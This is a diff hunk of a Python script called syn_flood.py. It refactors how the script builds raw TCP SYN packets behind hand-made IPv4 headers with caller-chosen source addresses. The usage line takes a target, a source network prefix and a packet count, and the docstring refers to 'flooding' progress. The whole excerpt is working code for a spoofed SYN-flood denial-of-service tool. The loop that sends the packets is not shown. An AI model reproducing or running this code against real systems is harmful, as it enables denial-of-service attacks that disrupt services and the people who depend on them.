@@ -11,28 +11,20 @@ when a quarter is sent ("flooding") and one at the end ("flood_done").
   syn_flood.py --to ADDR:PORT --net A.B.C --count N [--seed S]
 """
 import argparse
+import ipaddress
 import json
 import random
 import socket
 import struct
 import time
 
-
-def checksum(data):
-    if len(data) % 2:
-        data += b"\0"
-    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
-    while s >> 16:
-        s = (s & 0xFFFF) + (s >> 16)
-    return ~s & 0xFFFF
+import raw_syn  # beside this file: the SYN and its checksum
 
 
 def syn(src, dst, sport, dport, seq):
-    # 20-byte header plus MSS 1460 (kind 2, length 4): data offset 6 words.
-    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
-    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
-    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
-    # IPv4 header: the kernel fills in the total length, the ID and the checksum (IP_HDRINCL).
+    """The SYN of raw_syn.py (MSS 1460) behind an IPv4 header whose total length,
+    ID and checksum the kernel fills in (IP_HDRINCL)."""
+    tcp = raw_syn.tcp_syn(ipaddress.ip_address(src), ipaddress.ip_address(dst), sport, dport, seq)
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
     return ip + tcp
